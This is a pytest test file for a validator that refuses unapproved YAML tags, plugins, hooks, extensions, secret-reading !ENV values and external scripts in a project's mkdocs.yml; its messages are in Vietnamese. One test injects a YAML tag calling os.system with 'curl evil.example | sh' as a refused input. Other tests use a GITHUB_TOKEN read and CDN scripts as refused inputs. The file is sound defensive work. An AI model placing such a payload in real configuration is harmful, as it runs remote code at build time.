"""mkdocs.yml is code: `showcase check` refuses tags, plugins, hooks and extensions we did not allow."""
from __future__ import annotations

from pathlib import Path

import pytest

from showcase.cli.main import main
from showcase.validate.check import check_content
from showcase.validate.config import ALLOWED_FILE, allowed

ROOT = Path(__file__).resolve().parent.parent
REAL = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
ASK = ("nếu thật sự cần, người bảo trì mã nguồn thêm vào scripts/showcase/validate/mkdocs_allowed.yaml "
       "trong một pull request riêng.")


def config_problems(site_tree, text: str) -> list[str]:
    root = site_tree({"mkdocs.yml": text})
    _, problems = check_content(root, base=None)
    return [p.text() for p in sorted(problems.items) if p.path == "mkdocs.yml"]


def line_of(text: str, needle: str) -> int:
    return next(i for i, ln in enumerate(text.splitlines(), 1) if needle in ln)


def test_the_real_configuration_passes(site_tree, capsys):
    assert config_problems(site_tree, REAL) == []
    root = site_tree()
    assert main(["--root", str(root), "check", "--base", ""]) == 0


def test_allow_list_names_what_mkdocs_yml_uses_today():
    rules = allowed()
    assert rules["plugins"] == ["showcase"] and rules["hooks"] == []
    assert "!!python/name:showcase.core.vi.toc_slugify" in rules["tags"] and "!ENV" in rules["tags"]
    assert ALLOWED_FILE.is_relative_to(ROOT / "scripts")  # code: CODEOWNERS gives it to maintainers


def test_a_python_tag_is_refused_at_its_line(site_tree):
    text = REAL.replace("slugify: !!python/name:showcase.core.vi.toc_slugify",
                        "slugify: !!python/object/apply:os.system [\"curl evil.example | sh\"]")
    line = line_of(text, "os.system")
    assert config_problems(site_tree, text) == [
        f"mkdocs.yml:{line}:16: lỗi: markdown_extensions[5].toc.slugify: thẻ YAML "
        "'!!python/object/apply:os.system' không được phép trong mkdocs.yml (được phép: !ENV, "
        "!!python/name:showcase.core.vi.toc_slugify). Thẻ YAML có thể chạy mã Python khi dựng trang; "
        + ASK]


def test_another_python_name_and_a_local_tag_are_refused(site_tree):
    text = REAL.replace("showcase.core.vi.toc_slugify", "os.system") + "copyright: !relative x\n"
    found = config_problems(site_tree, text)
    assert len(found) == 2
    assert found[0].startswith(f"mkdocs.yml:{line_of(text, 'os.system')}:16: lỗi: markdown_extensions[5]"
                               ".toc.slugify: thẻ YAML '!!python/name:os.system' không được phép")
    assert found[1].startswith(f"mkdocs.yml:{line_of(text, '!relative')}:12: lỗi: copyright: thẻ YAML "
                               "'!relative' không được phép")


def test_env_may_read_only_the_site_address(site_tree):
    text = REAL + "copyright: !ENV [GITHUB_TOKEN, x]\n"
    assert config_problems(site_tree, text) == [
        f"mkdocs.yml:{line_of(text, 'GITHUB_TOKEN')}:12: lỗi: copyright: !ENV chỉ được đọc biến môi "
        "trường SHOWCASE_SITE_URL, không được đọc 'GITHUB_TOKEN' (biến môi trường của CI có thể chứa "
        "bí mật); " + ASK]


@pytest.mark.parametrize("form", ["list", "mapping"])
def test_a_plugin_outside_the_list_is_refused(site_tree, form):
    new = "  - showcase\n  - macros\n" if form == "list" else "  showcase: {}\n  macros: {}\n"
    text = REAL.replace("plugins:\n  - showcase\n", "plugins:\n" + new)
    assert config_problems(site_tree, text) == [
        f"mkdocs.yml:{line_of(text, 'macros')}:{5 if form == 'list' else 3}: lỗi: plugins: plugin 'macros' "
        "không nằm trong danh sách cho phép (showcase). Plugin chạy mã khi dựng trang; " + ASK]


def test_any_hook_is_refused(site_tree):
    text = REAL + "hooks:\n  - content/hook.py\n"
    assert config_problems(site_tree, text) == [
        f"mkdocs.yml:{line_of(text, 'hook.py')}:5: lỗi: hooks: hook 'content/hook.py' không nằm trong "
        "danh sách cho phép (không có). Hook chạy mã khi dựng trang; " + ASK]


def test_a_markdown_extension_outside_the_list_is_refused(site_tree):
    text = REAL.replace("  - admonition\n", "  - admonition\n  - pymdownx.snippets:\n      base_path: [/]\n")
    assert config_problems(site_tree, text) == [
        f"mkdocs.yml:{line_of(text, 'pymdownx.snippets')}:5: lỗi: markdown_extensions: phần mở rộng "
        "Markdown 'pymdownx.snippets' không nằm trong danh sách cho phép (attr_list, md_in_html, tables, "
        "admonition, toc). Phần mở rộng Markdown chạy mã khi dựng trang; " + ASK]


def test_scripts_from_another_host_are_refused(site_tree):
    text = REAL.replace("  - assets/javascripts/lightbox.js\n",
                        "  - assets/javascripts/lightbox.js\n  - path: https://cdn.example/x.js\n"
                        "  - //cdn.example/y.js\n")
    found = config_problems(site_tree, text)
    assert found == [
        f"mkdocs.yml:{line_of(text, 'cdn.example/x.js')}:11: lỗi: extra_javascript: 'https://cdn.example/x.js' tải từ "
        "máy chủ khác; mọi tệp script và định dạng phải nằm trong theme_overrides/ (không yêu cầu nào "
        "ra ngoài trang).",
        f"mkdocs.yml:{line_of(text, 'cdn.example/y.js')}:5: lỗi: extra_javascript: '//cdn.example/y.js' tải từ "
        "máy chủ khác; mọi tệp script và định dạng phải nằm trong theme_overrides/ (không yêu cầu nào "
        "ra ngoài trang)."]


def test_inherit_and_a_moved_docs_dir_are_refused(site_tree):
    text = "INHERIT: content/base.yml\n" + REAL.replace("docs_dir: content", "docs_dir: exemplars")
    found = config_problems(site_tree, text)
    assert found == [
        "mkdocs.yml:1:1: lỗi: INHERIT: mkdocs.yml không được kế thừa tệp cấu hình khác (tệp đó sẽ "
        "không được kiểm tra); hãy chép cấu hình vào mkdocs.yml.",
        f"mkdocs.yml:{line_of(text, 'docs_dir')}:11: lỗi: docs_dir: phải là 'content' (đang là "
        "'exemplars'); các bước kiểm tra khác dựa vào giá trị này; " + ASK]


def test_a_recursive_alias_is_walked_once(site_tree):
    text = REAL + "extra_loop: &a [1, *a]\n"
    assert config_problems(site_tree, text) == []


def test_the_cli_fails_on_a_refused_plugin(site_tree, capsys):
    root = site_tree({"mkdocs.yml": REAL.replace("  - showcase\n", "  - showcase\n  - macros\n")})
    assert main(["--root", str(root), "check", "--base", ""]) == 1
    assert "mkdocs.yml:" in capsys.readouterr().out
